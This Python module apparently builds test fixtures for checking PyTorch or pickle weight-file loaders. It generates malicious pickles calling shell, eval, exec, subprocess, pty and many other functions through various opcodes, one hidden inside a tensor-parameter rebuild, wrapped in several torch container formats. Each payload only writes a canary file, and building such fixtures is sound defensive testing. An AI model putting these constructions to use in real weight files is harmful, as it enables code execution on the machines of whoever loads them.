"""Weight files that want to run something: what they call, with which pickle instructions, in which container."""

import io
import itertools
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Iterator

import torch

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
SYSTEM = {"protocol_version": PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def payloads(canary: str) -> dict[str, tuple[str, str, tuple[str, ...]]]:
    """What is called: (module, name, arguments), each of which would leave a file at `canary`."""
    code = f"open({canary!r}, 'w').close()"
    shell = f"touch {canary}"
    return {
        "os.system": ("os", "system", (shell,)),
        "posix.system": ("posix", "system", (shell,)),
        "nt.system": ("nt", "system", (shell,)),
        "os.popen": ("os", "popen", (shell,)),
        "os.mkdir": ("os", "mkdir", (canary,)),
        "subprocess.getoutput": ("subprocess", "getoutput", (shell,)),
        "subprocess.Popen": ("subprocess", "Popen", (f"/usr/bin/{shell}",)),
        "eval": ("builtins", "eval", (f"open({canary!r}, 'w')",)),
        "exec": ("builtins", "exec", (code,)),
        "python 2's eval": ("__builtin__", "eval", (f"open({canary!r}, 'w')",)),
        "open": ("builtins", "open", (canary, "w")),
        "io.open": ("io", "open", (canary, "w")),
        "io.FileIO": ("_io", "FileIO", (canary, "w")),
        "import": ("builtins", "__import__", ("antigravity",)),
        "getattr": ("builtins", "getattr", ("os", "system")),
        "compile": ("builtins", "compile", (code, "x", "exec")),
        "importlib": ("importlib", "import_module", ("this",)),
        "runpy": ("runpy", "run_path", (canary,)),
        "pty.spawn": ("pty", "spawn", ("/bin/sh",)),
        "timeit": ("timeit", "timeit", (code,)),
        "code": ("code", "interact", (code,)),
        "pdb": ("pdb", "run", (code,)),
        "cProfile": ("cProfile", "run", (code,)),
        "doctest": ("doctest", "run_docstring_examples", (code, "x")),
        "webbrowser": ("webbrowser", "open", (f"file://{canary}",)),
        "pathlib": ("pathlib", "Path.touch", (canary,)),
        "shutil": ("shutil", "copyfile", ("/etc/hostname", canary)),
        "ctypes": ("ctypes", "CDLL", ("libc.so.6",)),
        "socket": ("socket", "create_connection", ("127.0.0.1",)),
        "sqlite3": ("sqlite3", "connect", (canary,)),
        "logging": ("logging", "FileHandler", (canary,)),
        "zipimport": ("zipimport", "zipimporter", (canary,)),
        "torch.load": ("torch.serialization", "load", (canary,)),
        "torch.hub": ("torch.hub", "load", (canary, "x")),
        "torch.jit": ("torch.jit", "load", (canary,)),
        "torch.save": ("torch.serialization", "save", ("x", canary)),
        "torch.dynamo": ("torch._dynamo.guards", "GuardBuilder.get", (code,)),
        "torch.cpp_extension": ("torch.utils.cpp_extension", "load_inline", (canary, code)),
        "numpy.load": ("numpy", "load", (canary,)),
        "numpy.runstring": ("numpy.testing._private.utils", "runstring", (code, "x")),
        "numpy.savetxt": ("numpy", "savetxt", (canary, "x")),
        "pickle": ("_pickle", "loads", (code,)),
        "pip": ("pip", "main", ("install",)),
        "operator": ("operator", "methodcaller", ("system",)),
        "functools": ("functools", "partial", ("os.system",)),
        "types": ("types", "FunctionType", (code, "x")),
        "sys.settrace": ("sys", "settrace", (code,)),
        "signal": ("signal", "raise_signal", ("9",)),
        "bdb": ("bdb", "Bdb.run", (code,)),
        "imaplib": ("imaplib", "IMAP4_stream", (shell,)),
    }


def _reduce(module: str, name: str, arguments: bytes) -> bytes:
    return f"c{module}\n{name}\n".encode() + arguments + b"tR"


def _stack_global(module: str, name: str, arguments: bytes) -> bytes:
    return text(module) + text(name) + b"\x93" + arguments + b"tR"


def _instance(module: str, name: str, arguments: bytes) -> bytes:
    return arguments + f"i{module}\n{name}\n".encode()


def _object(module: str, name: str, arguments: bytes) -> bytes:
    return b"(" + f"c{module}\n{name}\n".encode() + arguments[1:] + b"o"


def _new(module: str, name: str, arguments: bytes) -> bytes:
    return f"c{module}\n{name}\n".encode() + arguments + b"t\x81"


def _hidden(module: str, name: str, arguments: bytes) -> bytes:
    """Behind what a state_dict may call: among the hooks of a tensor's parameter."""
    call = _reduce(module, name, arguments)
    return b"ctorch._utils\n_rebuild_parameter\n" + b"(N\x89" + call + b"tR"


CALLS: dict[str, Callable[[str, str, bytes], bytes]] = {
    "REDUCE": _reduce,
    "STACK_GLOBAL": _stack_global,
    "INST": _instance,
    "OBJ": _object,
    "NEWOBJ": _new,
    "hidden": _hidden,
}


def zip_of(pickled: bytes, name: str = "x/data.pkl") -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(name, pickled)
        archive.writestr("x/byteorder", "little")
        archive.writestr("x/version", "3\n")
    return buffer.getvalue()


def _program(pickled: bytes) -> bytes:
    buffer = io.BytesIO(zip_of(pickled))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("x/constants.pkl", pickled)
    return buffer.getvalue()


def sequence(pickled: bytes) -> bytes:
    head = [pickle.dumps(value, 2) for value in (MAGIC, PROTOCOL, SYSTEM)]
    return b"".join(head) + pickled + pickle.dumps([], 2)


def _first_format(pickled: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("storages", "tensors", "pickle"):
            info = tarfile.TarInfo(name)
            info.size = len(pickled)
            archive.addfile(info, io.BytesIO(pickled))
    return buffer.getvalue()


def _beside_weights(pickled: bytes) -> bytes:
    """A sound file of torch's, its list of tensors replaced."""
    buffer, changed = io.BytesIO(), io.BytesIO()
    torch.save({"net.0.weight": torch.ones(4, 3, 1, 1)}, buffer)
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(changed, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, pickled if entry.filename.endswith("data.pkl") else old.read(entry))
    return changed.getvalue()


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "zip": zip_of,
    "weights": _beside_weights,
    "program": _program,
    "before 1.6": sequence,
    "first format": _first_format,
    "bare": bytes,
}


def files(canary: str) -> Iterator[tuple[str, bytes]]:
    """(name, content) of every hostile file: each payload by each call, in containers taken in turn."""
    turn = itertools.cycle(CONTAINERS.items())
    for payload, (module, name, values) in payloads(canary).items():
        arguments = b"(" + b"".join(text(value) for value in values)
        for call, make in CALLS.items():
            container, wrap = next(turn)
            pickled = b"\x80\4}" + text("a") + make(module, name, arguments) + b"s."
            yield f"{payload} by {call} in {container}", wrap(pickled)
        next(turn)  # so that a payload meets other containers than the one before it
